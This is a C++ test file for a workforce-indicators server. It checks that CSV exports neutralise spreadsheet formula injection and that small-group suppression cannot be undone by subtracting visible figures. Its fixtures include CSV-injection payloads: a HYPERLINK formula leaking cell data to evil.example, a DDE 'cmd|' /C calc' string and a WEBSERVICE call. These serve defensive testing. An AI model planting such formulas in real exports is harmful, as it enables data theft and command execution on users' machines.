// Hostile input against the privacy promises of the indicators, through the whole server in-process (API and
// HTTP transport on 127.0.0.1): names and ids built to become live formulas in a spreadsheet (CSV injection), and
// unit trees built to single out one employee by subtracting visible figures (minGroupSize undone by arithmetic).
// The contracts checked:
//  - no cell of export.csv starts a formula, neither for an RFC 4180 reader nor for a spreadsheet that splits on
//    ';' or tabs, and each text cell reads back as the text with a leading quote where one was needed;
//  - for HQ and DIRECTOR callers, every visible unit minus the visible units nearest below it leaves 0 or at least
//    minGroupSize employees, and hidden units carry no figure, in /indicators and /indicators/series.
#include "support/record_factory.h"
#include "support/sync_client.h"
#include "support/test_server.h"

#include "floorwalk/csv.h"
#include "floorwalk/wire.h"

#include <catch2/catch.hpp>

#include <map>
#include <random>
#include <set>
#include <string>
#include <tuple>

using namespace floorwalk;
using namespace floorwalk::faults;
namespace test = floorwalk::server::test;

namespace {

constexpr const char* json_type = "application/json";

Timestamp wall_now() {
    return std::chrono::time_point_cast<std::chrono::milliseconds>(std::chrono::system_clock::now());
}

bool starts_formula(char c) { return c == '=' || c == '+' || c == '-' || c == '@' || c == '\t' || c == '\r'; }

// Every place in the raw export where a spreadsheet could start a cell, reading the file as RFC 4180 CSV or
// splitting it on ';' or tabs (Excel in a French locale, a paste into a sheet), and finding a formula character
// there (after any opening quotes). Line ends (CRLF) are not cell content.
std::vector<std::string> formula_starts(const std::string& body) {
    std::vector<std::string> found;
    std::size_t i = body.rfind("\xEF\xBB\xBF", 0) == 0 ? 3 : 0;
    bool cell_start = true;
    for (; i < body.size(); ++i) {
        const char c = body[i];
        const bool line_end = c == '\r' && i + 1 < body.size() && body[i + 1] == '\n';
        if (cell_start && starts_formula(c) && !line_end) {
            const auto line_begin = body.rfind('\n', i);
            found.push_back("byte " + std::to_string(i) + " in line '" +
                            body.substr(line_begin == std::string::npos ? 0 : line_begin + 1, 80) + "'");
        }
        if (c == ',' || c == ';' || c == '\t' || c == '\n' || (c == '\r' && !line_end))
            cell_start = true;
        else if (c != '"')
            cell_start = false;
    }
    return found;
}

std::string join(const std::vector<std::string>& lines) {
    std::string out;
    for (const auto& line : lines) out += line + "\n";
    return out;
}

// The server, the seeded organisation "acme" (see seed_organization: hq > north > {n1: e1 e2, n2: e3},
// hq > south > s1: e4) with three more employees in n2 and in s1, so that only n1 (2) is small at the default
// minGroupSize 3 and the tests decide what else is, and its signed-in people.
class Privacy {
public:
    Privacy() : server_(dir_.path(), options()), client_(server_.port()) {
        static_cast<void>(test::seed_organization(server_.store(), "acme"));
        admin = login(client_, "acme", "admin", test::test_password, "admin-laptop");
        analyst = login(client_, "acme", "analyst", test::test_password, "analyst-laptop");
        director = login(client_, "acme", "director", test::test_password, "director-laptop");
        manager = login(client_, "acme", "manager", test::test_password, "manager-phone");
        static_cast<void>(add_employees("n2", "n2-", 3));
        static_cast<void>(add_employees("s1", "s1-", 3));
    }

    HttpReply call(const Account& who, const std::string& method, const std::string& target,
                   const std::string& body = {}, const std::string& content_type = json_type) {
        test::Headers headers{{"Authorization", "Bearer " + who.token}, {"Accept", json_type}};
        if (!body.empty()) headers.emplace_back("Content-Type", content_type);
        return client_.request(method, target, body, headers);
    }

    // PUT /api/v1/admin/<kind> as the admin; the reply, for tests that accept a refusal.
    HttpReply try_import(const std::string& kind, const std::string& body, const std::string& content_type) {
        return call(admin, "PUT", "/api/v1/admin/" + kind, body, content_type);
    }
    void import(const std::string& kind, const google::protobuf::Message& message) {
        const auto reply = try_import(kind, wire::to_json(message), json_type);
        INFO(kind << " import: " << reply.body);
        REQUIRE(reply.status == 200);
    }
    void add_units(const std::vector<std::tuple<std::string, std::string, std::string, pb::UnitKind>>& units) {
        pb::UnitsImport message;
        for (const auto& [id, parent, name, kind] : units) {
            auto* unit = message.add_units();
            unit->set_id(id);
            unit->set_parent_id(parent);
            unit->set_name(name);
            unit->set_kind(kind);
        }
        import("units", message);
    }
    // Employees `prefix`1..`count` in `unit_id`, active.
    std::vector<std::string> add_employees(const std::string& unit_id, const std::string& prefix, int count) {
        pb::EmployeesImport message;
        std::vector<std::string> ids;
        for (int i = 1; i <= count; ++i) {
            auto* employee = message.add_employees();
            employee->set_id(prefix + std::to_string(i));
            employee->set_unit_id(unit_id);
            employee->set_display_name("Employee " + prefix + std::to_string(i));
            employee->set_job_title("Seller");
            employee->set_active(true);
            ids.push_back(employee->id());
        }
        if (count > 0) import("employees", message);
        return ids;
    }
    void set_employee(const std::string& id, const std::string& unit_id, bool active) {
        pb::EmployeesImport message;
        auto* employee = message.add_employees();
        employee->set_id(id);
        employee->set_unit_id(unit_id);
        employee->set_display_name("Employee " + id);
        employee->set_job_title("Seller");
        employee->set_active(active);
        import("employees", message);
    }
    void set_min_group_size(int size) {
        pb::OrganizationSettings settings;
        std::string error;
        REQUIRE(wire::from_json(call(admin, "GET", "/api/v1/admin/settings").body, &settings, &error));
        settings.set_min_group_size(size);
        REQUIRE(call(admin, "PUT", "/api/v1/admin/settings", wire::to_json(settings)).status == 200);
    }
    // Observations by the manager of n1 about each of `employees`, a few each, rated across the scale.
    void observe(const std::vector<std::string>& employees, std::uint32_t seed) {
        const auto snapshot = pull_all(client_, manager);
        RecordFactory factory(snapshot.model, employees, seed, "privacy");
        pb::PushRequest request;
        request.set_device_id(manager.device_id);
        for (std::size_t i = 0; i < employees.size() * 3; ++i)
            *request.add_observations() = factory.observation(wall_now());
        const auto reply = push(client_, manager, encode(request, Encoding::json), Encoding::json);
        INFO(reply.body);
        REQUIRE(reply.status == 200);
    }

    pb::IndicatorsResponse indicators(const Account& who, const std::string& unit_id) {
        const auto reply = call(who, "GET", "/api/v1/indicators?unitId=" + unit_id);
        INFO(reply.body);
        REQUIRE(reply.status == 200);
        pb::IndicatorsResponse out;
        std::string error;
        REQUIRE(wire::from_json(reply.body, &out, &error));
        return out;
    }
    pb::SeriesResponse series(const Account& who, const std::string& unit_id) {
        const auto reply = call(who, "GET", "/api/v1/indicators/series?unitId=" + unit_id);
        REQUIRE(reply.status == 200);
        pb::SeriesResponse out;
        std::string error;
        REQUIRE(wire::from_json(reply.body, &out, &error));
        return out;
    }
    std::string export_body(const Account& who, const std::string& unit_id = "hq") {
        const auto reply = call(who, "GET", "/api/v1/indicators/export.csv?unitId=" + unit_id);
        INFO(reply.body);
        REQUIRE(reply.status == 200);
        return reply.body;
    }
    static csv::Table parse(const std::string& body) {
        std::string error;
        auto table = csv::parse(body, &error);
        INFO(error);
        REQUIRE(table);
        return *table;
    }

    // Everything `who` reads below `top` through GET /indicators, by unit.
    struct View {
        std::map<std::string, pb::IndicatorsResponse> units;
        std::map<std::string, std::vector<std::string>> children;
    };
    View read_view(const Account& who, const std::string& top) {
        View view;
        std::vector<std::string> queue{top};
        while (!queue.empty()) {
            const auto id = queue.back();
            queue.pop_back();
            auto response = indicators(who, id);
            for (const auto& child : response.children()) {
                view.children[id].push_back(child.unit_id());
                queue.push_back(child.unit_id());
            }
            view.units.emplace(id, std::move(response));
        }
        return view;
    }

    // What arithmetic on the visible figures of `view` could isolate: for each visible unit, the employees no
    // visible unit below it covers, and what subtracting leaves of the additive figures. Hidden units must carry
    // no figure at all.
    static std::vector<std::string> disclosure_problems(const View& view, int min_group_size) {
        std::vector<std::string> problems;
        for (const auto& [id, unit] : view.units) {
            if (unit.hidden()) {
                if (wire::get_value(unit.transformation_rate()) || wire::get_value(unit.deployment_rate()) ||
                    unit.dimensions_size() > 0 || unit.assessed_employees() > 0 || unit.accompanied_employees() > 0 ||
                    unit.observations() > 0 || unit.activities() > 0)
                    problems.push_back(id + " is hidden but shows figures");
                if (unit.hidden_reason() == pb::HIDDEN_REASON_UNSPECIFIED)
                    problems.push_back(id + " is hidden without a reason");
                continue;
            }
            std::vector<std::string> below;
            std::vector<std::string> queue;
            if (view.children.count(id)) queue = view.children.at(id);
            while (!queue.empty()) {
                const auto next = queue.back();
                queue.pop_back();
                if (!view.units.count(next)) continue;
                if (!view.units.at(next).hidden())
                    below.push_back(next);
                else if (view.children.count(next))
                    queue.insert(queue.end(), view.children.at(next).begin(), view.children.at(next).end());
            }
            int residual = unit.active_employees();
            long long assessed = 0;
            long long mastered = 0;
            for (const auto& d : unit.dimensions()) assessed += d.assessed(), mastered += d.mastered();
            long long observations = unit.observations();
            for (const auto& b : below) {
                const auto& part = view.units.at(b);
                residual -= part.active_employees();
                for (const auto& d : part.dimensions()) assessed -= d.assessed(), mastered -= d.mastered();
                observations -= part.observations();
            }
            if (residual > 0 && residual < min_group_size)
                problems.push_back(id + " minus its nearest visible units leaves " + std::to_string(residual) +
                                   " employee(s)");
            if (residual == 0 && (assessed != 0 || mastered != 0 || observations != 0))
                problems.push_back(id + " minus its nearest visible units leaves figures without employees");
        }
        return problems;
    }

    Account admin;
    Account analyst;
    Account director;
    Account manager;

private:
    static test::TestServerOptions options() {
        test::TestServerOptions options;
        options.http.log_requests = false;
        return options;
    }

    test::TempDir dir_;
    test::TestServer server_;

protected:
    HttpClient client_;
};

const std::vector<std::string>& trigger_names() {
    static const std::vector<std::string> names{
        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
        "+SUM(1,2)",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    };
    return names;
}

}  // namespace

TEST_CASE_METHOD(Privacy, "unit names starting with each formula character, imported as CSV or JSON, export as text",
                 "[faults][privacy][csv]") {
    for (std::size_t i = 0; i < trigger_names().size(); ++i) {
        const auto& name = trigger_names()[i];
        // The admin's CSV upload (whose cells the import trims of spaces, tabs and line breaks) and JSON (kept as is).
        csv::Table upload{{"id", "parentId", "name", "kind"}, {{"csv-" + std::to_string(i), "south", name, "store"}}};
        const auto csv_reply = try_import("units", csv::format_table(upload), "text/csv");
        INFO("name " << i << ": " << csv_reply.body);
        REQUIRE(csv_reply.status == 200);
        add_units({{"json-" + std::to_string(i), "south", name, pb::STORE}});
    }
    // The names as the server keeps them.
    pb::UnitsResponse stored;
    std::string error;
    REQUIRE(wire::from_json(call(analyst, "GET", "/api/v1/units").body, &stored, &error));
    std::map<std::string, std::string> names;
    for (const auto& unit : stored.units())
        if (unit.id().starts_with("csv-") || unit.id().starts_with("json-")) names.emplace(unit.id(), unit.name());
    REQUIRE(names.size() == 2 * trigger_names().size());
    CHECK(names.at("json-4") == "\t=1+1");  // a tab first reaches the export through JSON
    CHECK(names.at("json-5") == "\r=1+1");

    const auto body = export_body(analyst);
    INFO(join(formula_starts(body)));
    CHECK(formula_starts(body).empty());
    const auto table = parse(body);
    const auto id_column = *csv::column(table.header, "unitId");
    const auto name_column = *csv::column(table.header, "unitName");
    std::set<std::string> seen;
    for (const auto& row : table.rows) {
        const auto it = names.find(row[id_column]);
        if (it == names.end()) continue;
        INFO(row[id_column]);
        seen.insert(it->first);
        CHECK(row[name_column] == csv::spreadsheet_text(it->second));
        CHECK(row[name_column].front() == '\'');
        CHECK(row[name_column].substr(1).starts_with(it->second.substr(0, 1)));
    }
    CHECK(seen.size() == names.size());
}

TEST_CASE_METHOD(Privacy, "unit ids starting with a formula character are neutralised in unitId and parentId",
                 "[faults][privacy][csv]") {
    add_units({{"=cmd", "south", "Equals", pb::STORE},
               {"+plus", "=cmd", "Plus", pb::TEAM},
               {"-minus", "south", "Minus", pb::STORE},
               {"@at", "-minus", "At", pb::TEAM}});
    const auto body = export_body(analyst);
    INFO(join(formula_starts(body)));
    CHECK(formula_starts(body).empty());
    const auto table = parse(body);
    std::map<std::string, std::string> parent_of;
    for (const auto& row : table.rows) parent_of[row[0]] = row[3];
    CHECK(parent_of.at("'=cmd") == "south");
    CHECK(parent_of.at("'+plus") == "'=cmd");
    CHECK(parent_of.at("'@at") == "'-minus");
    // The export of such a unit is named with safe characters only.
    const auto reply = call(analyst, "GET", "/api/v1/indicators/export.csv?unitId=%3Dcmd");
    REQUIRE(reply.status == 200);
    CHECK(reply.header("Content-Disposition").find("filename=\"floorwalk-indicators-_cmd-") != std::string::npos);
}

TEST_CASE_METHOD(Privacy, "dimension ids and names with formula characters are neutralised", "[faults][privacy][csv]") {
    auto model = pull_all(client_, manager).model;
    model.mutable_dimensions(0)->set_name("=WEBSERVICE(\"http://evil.example\")");
    model.mutable_dimensions(1)->set_name("@cmd");
    model.mutable_dimensions(2)->set_name("-advice");
    import("model", model);
    const auto body = export_body(analyst);
    INFO(join(formula_starts(body)));
    CHECK(formula_starts(body).empty());
    const auto table = parse(body);
    std::set<std::string> names;
    for (const auto& row : table.rows) names.insert(row[5]);
    CHECK(names == std::set<std::string>{"'=WEBSERVICE(\"http://evil.example\")", "'@cmd", "'-advice"});
}

TEST_CASE_METHOD(Privacy, "a formula after a semicolon, comma or tab inside a name does not start a cell for any reader",
                 "[faults][privacy][csv]") {
    add_units({{"semi", "south", "Lyon;=1+1", pb::STORE},
               {"comma", "south", "Nice,@SUM(A1)", pb::STORE},
               {"tab", "south", "Team\t-1", pb::STORE},
               {"quoted", "south", "Quote;\"=2+2\"", pb::STORE},
               {"lines", "south", "two\r\n+lines", pb::STORE}});
    const auto body = export_body(analyst);
    INFO(join(formula_starts(body)));
    CHECK(formula_starts(body).empty());
    const auto table = parse(body);
    std::map<std::string, std::string> name_of;
    for (const auto& row : table.rows) name_of[row[0]] = row[1];
    CHECK(name_of.at("semi") == "Lyon;'=1+1");
    CHECK(name_of.at("comma") == "Nice,'@SUM(A1)");
    CHECK(name_of.at("tab") == "Team\t'-1");
    CHECK(name_of.at("quoted") == "Quote;\"'=2+2\"");
    CHECK(name_of.at("lines") == "two\r\n'+lines");
}

TEST_CASE_METHOD(Privacy, "fuzzed names of formula characters, quotes and separators never start a formula",
                 "[faults][privacy][csv]") {
    std::mt19937 random(4711);
    const std::string alphabet = "=+-@\t\r\n;,\"' aZ";
    pb::UnitsImport message;
    std::map<std::string, std::string> names;
    for (int i = 0; i < 200; ++i) {
        std::string name;
        const int length = std::uniform_int_distribution<int>(1, 8)(random);
        for (int k = 0; k < length; ++k)
            name.push_back(alphabet[std::uniform_int_distribution<std::size_t>(0, alphabet.size() - 1)(random)]);
        auto* unit = message.add_units();
        unit->set_id("fuzz-" + std::to_string(i));
        unit->set_parent_id("south");
        unit->set_name(name);
        unit->set_kind(pb::STORE);
        names.emplace(unit->id(), name);
    }
    const auto reply = try_import("units", wire::to_json(message), json_type);
    INFO(reply.body);
    if (reply.status != 200) {
        // Names starting with a control character may be refused as a whole; the printable ones must then pass.
        REQUIRE(reply.status == 400);
        pb::UnitsImport printable;
        for (const auto& unit : message.units())
            if (unit.name().front() != '\t' && unit.name().front() != '\r' && unit.name().front() != '\n')
                *printable.add_units() = unit;
        import("units", printable);
    }
    const auto body = export_body(analyst);
    INFO(join(formula_starts(body)));
    CHECK(formula_starts(body).empty());
    const auto table = parse(body);
    int checked = 0;
    for (const auto& row : table.rows) {
        const auto it = names.find(row[0]);
        if (it == names.end()) continue;
        ++checked;
        CHECK(row[1] == csv::spreadsheet_text(it->second));
        // Only quotes were added.
        auto without_quotes = [](std::string text) {
            std::erase(text, '\'');
            return text;
        };
        CHECK(without_quotes(row[1]) == without_quotes(it->second));
    }
    CHECK(checked >= 100 * 3);  // at least 100 units, three dimensions each
}

TEST_CASE_METHOD(Privacy, "a team of one cannot be worked out as its store minus its visible sibling team",
                 "[faults][privacy][groups]") {
    add_units({{"t-big", "n1", "Big team", pb::TEAM}, {"t-one", "n1", "One-person team", pb::TEAM}});
    auto big = add_employees("t-big", "big-", 5);
    set_employee("e1", "t-big", true);
    set_employee("e2", "t-big", true);
    big.insert(big.end(), {"e1", "e2"});
    const auto one = add_employees("t-one", "one-", 1);
    auto all = big;
    all.insert(all.end(), one.begin(), one.end());
    observe(all, 1);

    const auto store = indicators(analyst, "n1");
    CHECK_FALSE(store.hidden());
    REQUIRE(store.children_size() == 2);
    for (const auto& child : store.children()) {
        INFO(child.unit_id());
        CHECK(child.hidden());
        CHECK(child.hidden_reason() == (child.unit_id() == "t-one" ? pb::SMALL_GROUP : pb::COMPLEMENTARY));
        CHECK(child.dimensions_size() == 0);
    }
    for (const auto* who : {&analyst, &director}) {
        const auto problems = disclosure_problems(read_view(*who, who == &analyst ? "hq" : "north"), 3);
        INFO(join(problems));
        CHECK(problems.empty());
    }
    // Their manager sees both teams.
    const auto own = indicators(manager, "n1");
    for (const auto& child : own.children()) CHECK_FALSE(child.hidden());
}

TEST_CASE_METHOD(Privacy, "one employee attached to the store itself cannot be isolated by subtracting its teams",
                 "[faults][privacy][groups]") {
    add_units({{"t-a", "n1", "Team A", pb::TEAM}, {"t-b", "n1", "Team B", pb::TEAM}});
    const auto a = add_employees("t-a", "a-", 4);
    const auto b = add_employees("t-b", "b-", 5);
    set_employee("e2", "n2", true);  // e1 stays alone on the store itself
    auto all = a;
    all.insert(all.end(), b.begin(), b.end());
    all.push_back("e1");
    observe(all, 2);

    const auto store = indicators(analyst, "n1");
    CHECK_FALSE(store.hidden());
    std::map<std::string, pb::HiddenReason> reason;
    for (const auto& child : store.children()) reason[child.unit_id()] = child.hidden_reason();
    CHECK(reason.at("t-a") == pb::COMPLEMENTARY);  // the smaller team goes
    CHECK(reason.at("t-b") == pb::HIDDEN_REASON_UNSPECIFIED);
    const auto problems = disclosure_problems(read_view(analyst, "hq"), 3);
    INFO(join(problems));
    CHECK(problems.empty());
}

TEST_CASE_METHOD(Privacy, "an employee who leaves makes his team small, and its sibling is hidden at once",
                 "[faults][privacy][groups]") {
    add_units({{"t-a", "n1", "Team A", pb::TEAM}, {"t-b", "n1", "Team B", pb::TEAM}});
    const auto a = add_employees("t-a", "a-", 3);
    const auto b = add_employees("t-b", "b-", 5);
    set_employee("e1", "n2", true);
    set_employee("e2", "n2", true);
    auto all = a;
    all.insert(all.end(), b.begin(), b.end());
    observe(all, 3);
    const auto before = indicators(analyst, "n1");
    for (const auto& child : before.children()) CHECK_FALSE(child.hidden());

    set_employee(a.front(), "t-a", false);  // leaves: Team A has 2 left
    const auto after = indicators(analyst, "n1");
    std::map<std::string, pb::HiddenReason> reason;
    for (const auto& child : after.children()) reason[child.unit_id()] = child.hidden_reason();
    CHECK(reason.at("t-a") == pb::SMALL_GROUP);
    CHECK(reason.at("t-b") == pb::COMPLEMENTARY);
    const auto problems = disclosure_problems(read_view(analyst, "hq"), 3);
    INFO(join(problems));
    CHECK(problems.empty());
}

TEST_CASE_METHOD(Privacy, "head office and a director together learn nothing that either may not",
                 "[faults][privacy][groups]") {
    // At minGroupSize 5, n1 (2), n2 (4) and south (4) are small; north (6) is shown on its own, but HQ (10) -
    // north would give south: north is hidden from head office, and from its own director too, though on his
    // part of the tree alone it would not need to be.
    set_min_group_size(5);
    const auto hq_view = read_view(analyst, "hq");
    const auto director_view = read_view(director, "north");
    CHECK(hq_view.units.at("north").hidden_reason() == pb::COMPLEMENTARY);
    CHECK(director_view.units.at("north").hidden_reason() == pb::COMPLEMENTARY);
    View both = hq_view;
    for (const auto& [id, unit] : director_view.units) {
        INFO(id);
        CHECK(unit.hidden() == hq_view.units.at(id).hidden());
        CHECK(unit.hidden_reason() == hq_view.units.at(id).hidden_reason());
        both.units.insert_or_assign(id, unit);
    }
    const auto problems = disclosure_problems(both, 5);
    INFO(join(problems));
    CHECK(problems.empty());
}

TEST_CASE_METHOD(Privacy, "a hidden team's learning curve cannot be rebuilt week by week from its store's",
                 "[faults][privacy][groups][series]") {
    add_units({{"t-big", "n1", "Big team", pb::TEAM}, {"t-one", "n1", "One-person team", pb::TEAM}});
    auto big = add_employees("t-big", "big-", 4);
    set_employee("e1", "t-big", true);
    set_employee("e2", "t-big", true);
    big.insert(big.end(), {"e1", "e2"});
    const auto one = add_employees("t-one", "one-", 1);
    auto all = big;
    all.insert(all.end(), one.begin(), one.end());
    observe(all, 5);

    const auto store = series(analyst, "n1");
    CHECK_FALSE(store.hidden());
    REQUIRE(store.points_size() > 0);
    CHECK(wire::get_value(store.points(store.points_size() - 1).transformation_rate()).has_value());
    for (const std::string team : {"t-big", "t-one"}) {
        const auto curve = series(analyst, team);
        INFO(team);
        CHECK(curve.hidden());
        REQUIRE(curve.points_size() == store.points_size());
        for (const auto& point : curve.points()) {
            CHECK_FALSE(wire::get_value(point.transformation_rate()).has_value());
            CHECK_FALSE(wire::get_value(point.deployment_rate()).has_value());
            CHECK(point.dimensions_size() == 0);
            CHECK(point.observations() == 0);
        }
    }
}

TEST_CASE_METHOD(Privacy, "random unit trees imported through the API: no visible figure isolates a small group",
                 "[faults][privacy][groups]") {
    std::mt19937 random(90210);
    // Teams under n1 (the manager observes its whole subtree): up to 10 units, 3 levels, 0 to 6 employees each.
    std::vector<std::tuple<std::string, std::string, std::string, pb::UnitKind>> units;
    std::vector<std::string> ids{"n1"};
    for (int i = 0; i < 10; ++i) {
        const auto parent = ids[std::uniform_int_distribution<std::size_t>(0, ids.size() - 1)(random)];
        const std::string id = "r-" + std::to_string(i);
        units.emplace_back(id, parent, "Random " + std::to_string(i), pb::TEAM);
        ids.push_back(id);
    }
    add_units(units);
    std::vector<std::string> employees{"e1", "e2"};
    for (std::size_t i = 1; i < ids.size(); ++i) {
        const auto added = add_employees(ids[i], ids[i] + "-", std::uniform_int_distribution<int>(0, 6)(random));
        employees.insert(employees.end(), added.begin(), added.end());
    }
    observe(employees, 6);
    for (const int size : {2, 3, 4, 5}) {
        set_min_group_size(size);
        for (const auto* who : {&analyst, &director}) {
            const auto view = read_view(*who, who == &analyst ? "hq" : "north");
            const auto problems = disclosure_problems(view, size);
            INFO("minGroupSize " << size << (who == &analyst ? " for HQ" : " for the director") << "\n"
                                 << join(problems));
            CHECK(problems.empty());
        }
    }
}
